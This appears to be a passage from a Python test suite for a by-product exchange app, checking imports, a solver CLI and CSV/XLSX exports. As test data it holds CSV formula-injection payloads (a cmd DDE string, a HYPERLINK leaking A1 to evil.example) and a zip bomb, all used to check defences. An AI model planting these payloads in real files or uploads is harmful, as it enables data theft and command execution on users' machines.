    bomb = _zip_of({"[Content_Types].xml": b"<a/>", "xl/worksheets/sheet1.xml": b" " * 200_000})
    assert len(bomb) < 5_000
    for url, target in ((LISTINGS_URL, "listings cases"), (LEDGERS_URL, "ledgers cases")):
        before = db_state(engine)
        r = upload(fclient, url, member, "bomb.xlsx", bomb)
        refused(target, r, engine, before)
        assert r.status_code == 413, r.text


# ---------------------------------------------------------------- files that must still work

GOOD_LISTING_CSV = [LISTING_HEADER, GOOD_LISTING_ROW, ["demand", "粉煤灰", "80", "一次性", "", "I;II", *[""] * 11]]
ENCODINGS = [("utf-8", "csv"), ("utf-8-sig", "csv"), ("gbk", "csv"), ("utf-16", "csv"), ("", "xlsx")]


def _good_ledger(month: int) -> list[list[Any]]:
    """Two good ledger rows for two months from this one."""
    first = [GOOD_LEDGER_ROW[0], f"2023-{month:02d}", *GOOD_LEDGER_ROW[2:]]
    return [LEDGER_HEADER, first, [GOOD_LEDGER_ROW[0], f"2023-{month + 1:02d}", "10", *[""] * 6, "10", "", "粉煤灰"]]


@pytest.mark.parametrize("url", [LISTINGS_URL, LEDGERS_URL], ids=["listings", "ledgers"])
def test_good_files_in_every_encoding_import(url: str, fclient: TestClient, member: Member, engine: Engine) -> None:
    """UTF-8 with or without a BOM (what Excel writes as "CSV UTF-8"), GBK (Excel on Chinese Windows), UTF-16
    (Excel's "Unicode text") and XLSX: the same rows, imported, the Chinese text intact."""
    target = ("listings" if url == LISTINGS_URL else "ledgers") + " good files"
    for k, (encoding, fmt) in enumerate(ENCODINGS):
        rows = GOOD_LISTING_CSV if url == LISTINGS_URL else _good_ledger(1 + 2 * k)
        content = to_xlsx(rows) if fmt == "xlsx" else to_csv(rows, encoding)
        before = db_state(engine)
        body = accepted(target, upload(fclient, url, member, f"台账.{fmt}", content))
        assert body["created"] == 2, (encoding, fmt, body)
        after = db_state(engine)
        if url == LISTINGS_URL:
            added = [row for row in after["listing"] if row not in before["listing"]]
            assert len(added) == 2 and len(after["listingchange"]) == len(before["listingchange"]) + 2
            assert any(GOOD_LISTING["notes"] in row for row in added), f"{encoding or fmt}: the text arrived garbled"
        else:
            added = [row for row in after["ledger_entry"] if row not in before["ledger_entry"]]
            assert len(added) == 2, (encoding, fmt)
            assert any("粉煤灰" in row for row in added), f"{encoding or fmt}: the note arrived garbled"


def test_valid_rows_mode_writes_only_the_good_rows(fclient: TestClient, member: Member, engine: Engine) -> None:
    """The listings import's other mode: the good rows go in, the bad one is reported and not written."""
    bad = [*GOOD_LISTING_ROW[:-1], "=cmd|' /C calc'!A0"]
    content = to_csv([LISTING_HEADER, GOOD_LISTING_ROW, bad, GOOD_LISTING_ROW])
    before = db_state(engine)
    r = fclient.post(
        LISTINGS_URL, files={"file": ("a.csv", content)}, data={"mode": "valid_rows"}, headers=member.headers
    )
    body = accepted("listings good files", r)
    assert body["created"] == 2 and [(e["row"], e["column"]) for e in body["errors"]] == [(3, "notes")]
    after = db_state(engine)
    assert len(after["listing"]) == len(before["listing"]) + 2
    assert not any("calc" in row for row in after["listing"])


# ---------------------------------------------------------------- solver JSON through `exchange solve`

SOLVER_DOC: dict[str, Any] = {
    "supplies": [
        {"id": "s1", "material": "fly_ash", "quantity_t": 1200.0, "lat": 38.04, "lon": 114.51, "grade": "II",
         "max_distance_km": 200, "min_lot_t": 0},
        {"id": "s2", "material": "ggbs", "quantity_t": 300.0, "lat": 36.6, "lon": 114.5},
    ],
    "demands": [
        {"id": "d1", "quantity_t": 800.0, "lat": 37.9, "lon": 114.9,
         "accepts": [{"material": "fly_ash", "grades": ["I", "II"]}, {"material": "ggbs"}],
         "max_distance_km": 150, "permits": []},
        {"id": "d2", "quantity_t": 100.0, "lat": 38.2, "lon": 114.3, "accepts": [{"material": "fly_ash"}]},
    ],
    "materials": {"fly_ash": {"max_distance_km": 300, "hazardous": False}, "ggbs": {}},
    "params": {"freight_cny_per_t_km": 0.35, "detour_factor": 1.3},
    "forbidden": [["s2", "d2"]],
    "pinned": [{"supply": "s1", "demand": "d1", "quantity_t": 10}],
}  # fmt: skip

# (path to a field, what kind of value it holds)
REQUIRED_FIELDS = [
    ("supplies[{i}].id", "text"),
    ("supplies[{i}].material", "text"),
    ("supplies[{i}].quantity_t", "tonnes"),
    ("supplies[{i}].lat", "lat"),
    ("supplies[{i}].lon", "lon"),
    ("demands[{i}].id", "text"),
    ("demands[{i}].quantity_t", "tonnes"),
    ("demands[{i}].lat", "lat"),
    ("demands[{i}].lon", "lon"),
    ("demands[{i}].accepts", "list"),
    ("demands[0].accepts[{i}].material", "material"),
    ("pinned[0].supply", "supply ref"),
    ("pinned[0].demand", "demand ref"),
    ("pinned[0].quantity_t", "tonnes"),
]
OPTIONAL_FIELDS = [
    ("supplies[{i}].grade", "text"),
    ("supplies[{i}].max_distance_km", "km"),
    ("supplies[{i}].min_lot_t", "tonnes"),
    ("demands[{i}].max_distance_km", "km"),
    ("demands[0].accepts[0].grades", "list"),
    ("demands[0].permits", "list"),
    ("params.freight_cny_per_t_km", "tonnes"),
    ("params.detour_factor", "factor"),
    ("materials.fly_ash.max_distance_km", "km"),
    ("materials.fly_ash.hazardous", "bool"),
]
JUNK = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=8,
)


def _nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def _wrong_value(kind: str) -> st.SearchStrategy[Any]:
    """Values that are not of this kind (None is "missing", covered separately)."""
    not_number = st.one_of(
        st.text(max_size=5),
        st.booleans(),
        st.lists(st.integers(), max_size=2),
        st.dictionaries(st.text(max_size=2), st.integers(), max_size=2),
    ).filter(lambda v: v is not None)
    if kind in ("tonnes", "km"):
        return st.one_of(
            not_number,
            st.floats(max_value=-1e-6, min_value=-1e12),
            st.sampled_from([math.nan, math.inf, -math.inf, 10**400, -(10**400)]),
            st.integers(1, 40).map(_nested),
        )
    if kind == "factor":
        return st.one_of(not_number, st.sampled_from([0, -1.5, math.nan, math.inf]))
    if kind == "lat":
        return st.one_of(not_number, st.floats(90.000001, 1e9), st.floats(-1e9, -90.000001), st.just(math.nan))
    if kind == "lon":
        return st.one_of(not_number, st.floats(180.000001, 1e9), st.floats(-1e9, -180.000001), st.just(math.inf))
    if kind in ("text", "supply ref", "demand ref", "material"):
        wrong = st.one_of(
            st.just(""), st.integers(), st.floats(allow_nan=False), st.booleans(), st.lists(JUNK, max_size=2)
        )
        if kind == "material":
            wrong = st.one_of(wrong, st.just("no_such_material"))  # not in "materials"
        if kind in ("supply ref", "demand ref"):
            wrong = st.one_of(wrong, st.just("nobody"))  # an id that does not exist
        return wrong
    if kind == "list":
        return st.one_of(st.text(max_size=5), st.integers(), st.dictionaries(st.text(max_size=2), JUNK, max_size=2))
    if kind == "bool":
        return st.one_of(st.text(max_size=3), st.integers(), st.floats(allow_nan=False), st.lists(JUNK, max_size=2))
    raise AssertionError(kind)


def _locate(doc: Any, path: str) -> tuple[Any, Any]:
    """The container and key of the field at `path` (a.b[1].c)."""
    parts: list[Any] = []
    for chunk in path.split("."):
        name, _, rest = chunk.partition("[")
        parts.append(name)
        for idx in rest.rstrip("]").split("][") if rest else []:
            parts.append(int(idx))
    node = doc
    for key in parts[:-1]:
        node = node[key]
    return node, parts[-1]


@st.composite
def broken_document(draw: st.DrawFn) -> tuple[str, str]:
    """A solver document with one broken field; returns its JSON text and the field path the error must name."""
    doc = json.loads(json.dumps(SOLVER_DOC))
    kind = draw(st.sampled_from(["missing", "wrong", "wrong", "wrong", "duplicate", "root"]))
    if kind == "root":
        junk = draw(
            st.one_of(st.lists(JUNK, min_size=1, max_size=3), st.integers(), st.text(max_size=5), st.just(_nested(50)))
        )
        section = draw(st.sampled_from(["(root)", "supplies", "demands"]))
        if section == "(root)":
            return json.dumps(junk), "(root)"
        doc[section] = junk if junk is not None else {}
        return json.dumps(doc), section
    if kind == "duplicate":
        section = draw(st.sampled_from(["supplies", "demands"]))
        doc[section][1]["id"] = doc[section][0]["id"]
        return json.dumps(doc), f"{section}[1].id"
    i = draw(st.integers(0, 1))
    if kind == "missing":
        template, _ = draw(st.sampled_from(REQUIRED_FIELDS))
        path = template.format(i=i)
        node, key = _locate(doc, path)
        if draw(st.booleans()):
            del node[key]
        else:
            node[key] = None
        return json.dumps(doc), path
    template, value_kind = draw(st.sampled_from(REQUIRED_FIELDS + OPTIONAL_FIELDS))
    path = template.format(i=i)
    node, key = _locate(doc, path)
    value = draw(_wrong_value(value_kind))
    node[key] = value
    if isinstance(value, list) and value and value_kind == "list":
        path = f"{path}[0]"  # a list of junk: the first element is named
    text = json.dumps(doc, allow_nan=True)
    return text, path


def run_solve(tmp_path: Path, text: str | bytes, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    from exchange.cli import main

    src = tmp_path / "problem.json"
    (tmp_path / "out.json").unlink(missing_ok=True)  # tmp_path is shared by a test's hypothesis examples
    if isinstance(text, bytes):
        src.write_bytes(text)
    else:
        src.write_text(text, encoding="utf-8")
    code = main(["solve", str(src), "-o", str(tmp_path / "out.json")])
    return code, capsys.readouterr().err


@FUZZ
@given(case=broken_document())
def test_solver_names_the_broken_field(
    case: tuple[str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, path = case
    TRIED["solver fields"] += 1
    code, err = run_solve(tmp_path, text, capsys)
    assert code == 2, (code, err, text[:500])
    assert err.startswith("error: ") and "Traceback" not in err, err
    named = err.removeprefix("error: ").split(": ", 1)[0]
    # The message names the field or the list/object that holds it (a junk list reports its first element).
    assert named == path or path.startswith(named) or named.startswith(path), (named, path, text[:500])
    assert not (tmp_path / "out.json").exists()


@st.composite
def junk_input(draw: st.DrawFn) -> bytes:
    kind = draw(st.sampled_from(["bytes", "truncated", "deep", "big int", "text", "not utf-8"]))
    good = json.dumps(SOLVER_DOC).encode()
    if kind == "bytes":
        return draw(st.binary(max_size=500))
    if kind == "truncated":
        return good[: draw(st.integers(0, len(good) - 1))]
    if kind == "deep":
        depth = draw(st.sampled_from([1_000, 10_000, 100_000]))
        opener = draw(st.sampled_from(["[", '{"a":']))
        return (opener * depth).encode() + draw(st.sampled_from([b"", b"1" + b"]" * depth]))
    if kind == "big int":
        digits = draw(st.sampled_from([400, 4_300, 5_000, 20_000]))
        return good.replace(b'"quantity_t": 1200.0', b'"quantity_t": 1' + b"0" * digits)
    if kind == "not utf-8":
        return draw(
            st.sampled_from([b"\xff\xfe{\x00}\x00", good.decode().encode("utf-16"), b'{"supplies": "\xc0\xaf"}'])
        )
    return draw(st.text(max_size=200)).encode("utf-8")


@FUZZ
@given(content=junk_input())
def test_solver_refuses_junk_files_without_a_traceback(
    content: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    TRIED["solver junk"] += 1
    code, err = run_solve(tmp_path, content, capsys)
    assert code == 2, (code, err, content[:200])
    assert err.startswith("error: ") and "Traceback" not in err and len(err) < 1000, err


def test_solver_refuses_tonnes_it_cannot_count(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Finite but absurd tonnes (more than a billion per lot) are refused by field, not overflowed."""
    for path in ("supplies[0].quantity_t", "demands[1].quantity_t", "supplies[1].min_lot_t", "pinned[0].quantity_t"):
        doc = json.loads(json.dumps(SOLVER_DOC))
        node, key = _locate(doc, path)
        node[key] = 1e300
        TRIED["solver fields"] += 1
        code, err = run_solve(tmp_path, json.dumps(doc), capsys)
        assert code == 2 and err.startswith(f"error: {path}: "), err


def test_solver_subprocess_names_the_field(tmp_path: Path) -> None:
    """The real command, in its own process: a negative tonnage names its field, exit 2, no traceback."""
    doc = json.loads(json.dumps(SOLVER_DOC))
    doc["demands"][1]["quantity_t"] = -5
    src = tmp_path / "problem.json"
    src.write_text(json.dumps(doc))
    TRIED["solver subprocess"] += 1
    done = subprocess.run(
        [sys.executable, "-m", "exchange.cli", "solve", str(src)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("error: demands[1].quantity_t: ") and "Traceback" not in done.stderr, done.stderr
    assert done.stdout == ""


def summary_line() -> str:
    """For the session summary: cases per target, server errors and refused files that wrote something."""
    per_target = ", ".join(f"{target} {n}" for target, n in sorted(TRIED.items()))
    return (
        f"import fuzzing: {sum(TRIED.values())} cases ({per_target}); "
        f"{sum(SERVER_ERRORS.values())} server errors, {sum(WRITES.values())} writes"
    )


# ---------------------------------------------------------------- exports neutralise formula injection

HOSTILE_NAMES = {
    "producer": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
    "consumer": '+HYPERLINK("http://evil.example")',
    "park": "@SUM(1+1)*cmd|' /C calc'!A0",
    "other": '-2+3+HYPERLINK("x")',
}
EXPORT_PERIOD = "2025-06"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _unsafe_csv_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (a negative number is a number, not a formula)."""
    return [c for c in _csv_cells(content) if c.startswith(FORMULA_STARTS) and not _is_number(c)]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _unsafe_xlsx_cells(content: bytes) -> list[str]:
    """Formula cells, and text cells that would be read as one if retyped (no leading apostrophe)."""
    wb = load_workbook(io.BytesIO(content), data_only=False)
    unsafe: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    unsafe.append(f"{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    unsafe.append(f"{cell.coordinate}: text {cell.value!r}")
    return unsafe


def _xlsx_text(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content), data_only=False)
    return [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_every_export_neutralises_formulas_in_names(
    client: TestClient,
    engine: Engine,
    no_round_thread: None,
    make_park: Callable[..., Any],
    make_enterprise: Callable[..., Any],
    make_user: Callable[..., User],
    token_for: Callable[[User], dict[str, str]],
) -> None:
    """Enterprises and a park named with formulas; their listings, ledgers and a published round; then every
    CSV/XLSX download the app has (the round's allocations, every statistics table, the public statistics):
    the names come out as text — a leading apostrophe in CSV, a string cell (never a formula) in XLSX."""
    from exchange.rounds import solving
    from exchange.stats import service as stats_service

    park = make_park(name=HOSTILE_NAMES["park"])
    producer_ent = make_enterprise(HOSTILE_NAMES["producer"], park=park)
    consumer_ent = make_enterprise(HOSTILE_NAMES["consumer"], park=park, lat=36.65, lon=114.55, industry="cement")
    other_ent = make_enterprise(HOSTILE_NAMES["other"], park=park, lat=36.62, lon=114.52)
    producer = token_for(make_user(Role.ENTERPRISE, enterprise=producer_ent))
    consumer = token_for(make_user(Role.ENTERPRISE, enterprise=consumer_ent))
    other = token_for(make_user(Role.ENTERPRISE, enterprise=other_ent))
    manager = token_for(make_user(Role.PARK_MANAGER, park=park))
    viewers = {
        "manager": manager,
        "regulator": token_for(make_user(Role.REGULATOR, region_code="130000")),
        "admin": token_for(make_user(Role.ADMIN)),
    }

    def ok(r: Any, status: int = 200) -> Any:
        assert r.status_code == status, r.text
        return r.json()

    for headers, kind, extra in (
        (producer, "supply", {"notes": HOSTILE_NAMES["producer"], "grade": "II"}),
        (other, "supply", {"notes": "=1+1"}),
        (consumer, "demand", {"notes": HOSTILE_NAMES["consumer"], "max_distance_km": 150}),
    ):
        body = {"kind": kind, "material_code": "fly_ash", "quantity_t": "100", **extra}
        r = client.post("/api/v1/listings", json=body, headers=headers)
        if r.status_code == 422:  # the API may refuse formula text in notes: post without it then
            body.pop("notes")
            r = client.post("/api/v1/listings", json=body, headers=headers)
        ok(r, 201)
    for headers in (producer, consumer, other):
        ledger = {"material_code": "fly_ash", "period": EXPORT_PERIOD, "generated_t": "500", "stored_t": "400"}
        ok(client.put("/api/v1/ledgers", json={**ledger, "note": HYPERLINK}, headers=headers))

    rnd = ok(client.post("/api/v1/rounds", json={"scope": "park", "period": EXPORT_PERIOD}, headers=manager), 202)
    solving.run_pending(engine)
    ok(client.post(f"/api/v1/rounds/{rnd['id']}/publish", json={"run": 1}, headers=manager))

    downloads: dict[str, bytes] = {}
    for fmt in ("csv", "xlsx"):
        r = client.get(f"/api/v1/rounds/{rnd['id']}/export?format={fmt}&run=1", headers=manager)
        assert r.status_code == 200, r.text
        downloads[f"round.{fmt}"] = r.content
        r = client.get(f"/api/v1/public/stats?format={fmt}")
        assert r.status_code == 200, r.text
        downloads[f"public-stats.{fmt}"] = r.content
        for who, headers in viewers.items():
            for name in stats_service.TABLES:
                url = f"/api/v1/stats/tables/{name}?format={fmt}&period_from=2025-01&period_to=2025-12"
                r = client.get(url, headers=headers)
                assert r.status_code == 200, (who, name, r.text)
                downloads[f"{who}/{name}.{fmt}"] = r.content

    problems: dict[str, list[str]] = {}
    with_names: list[str] = []
    for key, content in downloads.items():
        TRIED["exports"] += 1
        if key.endswith(".csv"):
            unsafe, text = _unsafe_csv_cells(content), _csv_cells(content)
        else:
            unsafe, text = _unsafe_xlsx_cells(content), _xlsx_text(content)
        if unsafe:
            problems[key] = unsafe[:3]
        if any("HYPERLINK" in cell or "calc" in cell for cell in text):
            with_names.append(key)
    assert not problems, problems
    # The hostile names did reach the exports that show names: the round's pairs, the enterprise and park tables.
    for key in ("round.csv", "round.xlsx", "admin/laggards_enterprise.csv", "admin/laggards_park.xlsx"):
        assert key in with_names, (key, sorted(with_names))


def test_ledger_errors_use_the_spreadsheet_row_numbers(fclient: TestClient, member: Member, engine: Engine) -> None:
    """Blank rows count as rows (as the spreadsheet numbers them): the bad row after two blank ones is row 5."""
    content = to_csv([LEDGER_HEADER, GOOD_LEDGER_ROW, [], [""] * len(LEDGER_HEADER), _ledger_row(stored_t="abc")])
    xlsx = to_xlsx([LEDGER_HEADER, GOOD_LEDGER_ROW, [None], [None], _ledger_row(stored_t="abc")])
    for name, data in (("a.csv", content), ("a.xlsx", xlsx)):
        before = db_state(engine)
        body = refused("ledgers cases", upload(fclient, LEDGERS_URL, member, name, data), engine, before)
        assert [(e["row"], e["column"]) for e in body["errors"]] == [(5, "stored_t")], (name, body)


def _ledger_row(**cells: Any) -> list[Any]:
    return [cells.get(c, GOOD_LEDGER[c]) for c in LEDGER_HEADER]
